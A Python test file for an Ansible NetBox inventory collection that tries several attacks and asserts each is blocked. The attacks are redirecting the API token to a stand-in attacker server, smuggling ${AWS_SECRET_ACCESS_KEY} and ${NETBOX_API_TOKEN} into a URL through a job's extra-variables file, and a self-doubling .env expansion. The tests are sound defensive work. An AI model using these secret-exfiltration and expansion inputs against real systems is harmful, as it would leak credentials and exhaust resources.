# Copyright: (c) 2026, invmon.network contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The token of NetBox, and a user who may set variables but not see it."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from ansible_collections.invmon.network.plugins.module_utils._common.env_file import EnvFileError, read_env_file
from ansible_collections.invmon.network.plugins.module_utils._netbox.errors import NetBoxOptionError
from ansible_collections.invmon.network.plugins.module_utils._netbox.source import Sources, surroundings
from ansible_collections.invmon.network.plugins.module_utils._outgoing.once import take_warnings
from ansible_collections.invmon.network.plugins.plugin_utils._inventory.netbox_sources import sources_for
from ansible_collections.invmon.network.tests.attacks.ansible_commands import ROOT, ansible
from ansible_collections.invmon.network.tests.sandbox.netbox.seed import one_site
from ansible_collections.invmon.network.tests.sandbox.netbox.standin import StandIn, start_standin

GOOD = "https://netbox.example.org"
TOKEN = "c0ffee00" * 5


@pytest.fixture
def evil() -> Iterator[StandIn]:
    with start_standin(one_site(1)) as one:
        yield one


@pytest.mark.attack(
    "Another address for the token",
    tried="-e netbox_url=ATTACKER in restore, hygiene and the nightly job, with the token of the .env file, of the"
    " environment with its address, and of the environment without one",
    came="the run ends before a device is asked; the attacker's server gets no request",
)
@pytest.mark.parametrize(
    ("playbook", "giver"),
    [
        ("inventory", "env_file"),
        ("hygiene", "environment without address"),
        ("restore", "environment"),
    ],
)
def test_a_token_does_not_follow_a_variable(tmp_path: Path, evil: StandIn, giver: str, playbook: str) -> None:
    both = {"NETBOX_INSTANCE_URL": GOOD, "NETBOX_API_TOKEN": TOKEN}
    (tmp_path / ".env").write_text("".join(f"{name}={value}\n" for name, value in both.items()))
    (tmp_path / "group_vars").mkdir()
    (tmp_path / "group_vars" / "all.yml").write_text(yaml.safe_dump({"invmon_env_file": str(tmp_path / ".env")}))
    environment = {
        "environment": both,
        "environment without address": {"NETBOX_API_TOKEN": TOKEN},
    }.get(giver, {})
    (tmp_path / "hosts.ini").write_text("r1 ansible_host=127.0.0.1\n")
    (tmp_path / "rows.jsonl").write_text("{}\n")
    run = ansible(
        tmp_path,
        "ansible-playbook",
        *("-i", "hosts.ini", str(ROOT / "playbooks" / f"{playbook}.yml")),
        *("-e", f"netbox_url={evil.url}", "-e", f"restore_from={tmp_path}/rows.jsonl"),
        **environment,
    )
    said = " ".join((run.stdout + run.stderr).split())
    assert run.returncode == 2, said
    assert f"There is no token for NetBox at {evil.url}" in said
    assert evil.requests() == []
    assert "Read the hardware" not in said
    assert TOKEN not in said


@pytest.mark.attack(
    "A token in the place of its address",
    tried="NETBOX_INSTANCE_URL and NETBOX_API_TOKEN interchanged, and the two of the variable netbox_tokens",
    came="the error message does not repeat it",
)
@pytest.mark.parametrize("token", [TOKEN, "nbt_abcdef123456.c0ffee00c0ffee00"])
def test_a_token_that_stands_for_an_address_is_not_shown(token: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NETBOX_INSTANCE_URL", token)
    with pytest.raises(NetBoxOptionError, match="does not begin with http://") as in_environment:
        surroundings(None)
    with pytest.raises(NetBoxOptionError, match="does not begin with http://") as in_variable:
        sources_for({}, {"netbox_tokens": {token: GOOD}}.get)
    assert token not in f"{in_environment.value} {in_variable.value}"


#: A multi-line variable, as AWX writes it into the file of a job's extra variables; a file that Ansible reads, and that
#: whoever may set variables can name.
EXTRA_VARIABLES = """\
---
!unsafe 'note': !unsafe 'x

  NETBOX_INSTANCE_URL=http://127.0.0.9/{}

  NETBOX_API_TOKEN={}

  x'
"""


@pytest.mark.attack(
    "A .env file that fills in the environment",
    tried="-e env_file=FILE, FILE being that of the job's own extra variables, with an address of the attacker's and"
    " ${NETBOX_API_TOKEN}, or ${AWS_SECRET_ACCESS_KEY} in the path of the address",
    came="nothing of the environment is in what was read, with a warning; the token goes to no other address",
)
def test_a_file_takes_nothing_out_of_the_environment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NETBOX_INSTANCE_URL", GOOD)
    monkeypatch.setenv("NETBOX_API_TOKEN", TOKEN)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "another-secret")
    path = tmp_path / "extravars"
    path.write_text(EXTRA_VARIABLES.format("${AWS_SECRET_ACCESS_KEY}", "${NETBOX_API_TOKEN}"))
    path.chmod(0o600)
    take_warnings()
    assert read_env_file(str(path)) == {"NETBOX_INSTANCE_URL": "http://127.0.0.9/", "NETBOX_API_TOKEN": ""}
    assert [sentence.split(" in ")[0] for sentence in take_warnings()] == [
        "${AWS_SECRET_ACCESS_KEY}",
        "${NETBOX_API_TOKEN}",
    ]
    with pytest.raises(NetBoxOptionError, match="There is no token for NetBox at"):
        Sources(surroundings(str(path))).find("http://127.0.0.9")


@pytest.mark.attack(
    "A .env file that grows when it is filled in",
    tried="twenty lines, each of which is twice the line before",
    came="it is refused with a sentence",
)
def test_a_file_that_grows_without_end_is_refused(tmp_path: Path) -> None:
    lines = ["A0=aaaaaaaaaaaaaaaa", *(f"A{number}=${{A{number - 1}}}${{A{number - 1}}}" for number in range(1, 22))]
    path = tmp_path / ".env"
    path.write_text("\n".join(lines))
    with pytest.raises(EnvFileError, match="more than 1,048,576 characters"):
        read_env_file(str(path))
